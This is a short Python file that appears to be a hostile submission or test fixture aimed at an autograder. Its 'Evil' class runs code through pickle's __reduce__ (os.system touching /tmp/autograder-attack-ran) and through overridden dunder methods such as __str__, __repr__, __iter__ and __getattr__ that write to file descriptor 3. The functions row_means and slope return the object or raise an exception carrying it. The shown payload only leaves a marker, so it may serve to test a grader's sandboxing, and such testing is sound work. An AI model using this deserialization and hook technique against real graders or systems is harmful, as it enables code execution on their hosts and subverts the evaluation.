"""Returns objects that run code in whoever unpickles, copies, prints, iterates or subtracts them."""

import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-attack-ran",)

    def __getattr__(self, name):
        return lambda *_, **__: os.write(3, b"ran")

    __array__ = __iter__ = __len__ = __float__ = __str__ = __repr__ = __format__ = lambda self, *_: os.write(3, b"ran")


def row_means(t):
    return Evil()


def slope(x):
    raise type("Evil", (Exception,), {"__str__": Evil.__str__, "__reduce__": Evil.__reduce__})
